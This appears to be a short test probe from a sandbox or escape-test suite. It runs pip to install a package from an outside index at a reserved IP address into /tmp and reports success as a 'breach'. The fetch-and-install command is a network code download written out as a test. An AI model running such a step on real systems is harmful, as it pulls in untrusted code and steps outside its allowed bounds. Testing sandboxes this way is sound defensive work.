"""Installs a package at run time."""

import subprocess
from attack import *

words = [
    sys.executable,
    "-m",
    "pip",
    "install",
    "--no-input",
    "--retries",
    "0",
    "--timeout",
    "2",
    "--index-url",
    "http://192.0.2.1/simple",
    "--target",
    "/tmp/new",
    "six",
]
if subprocess.run(words, capture_output=True).returncode == 0:
    breach("installed")
done()
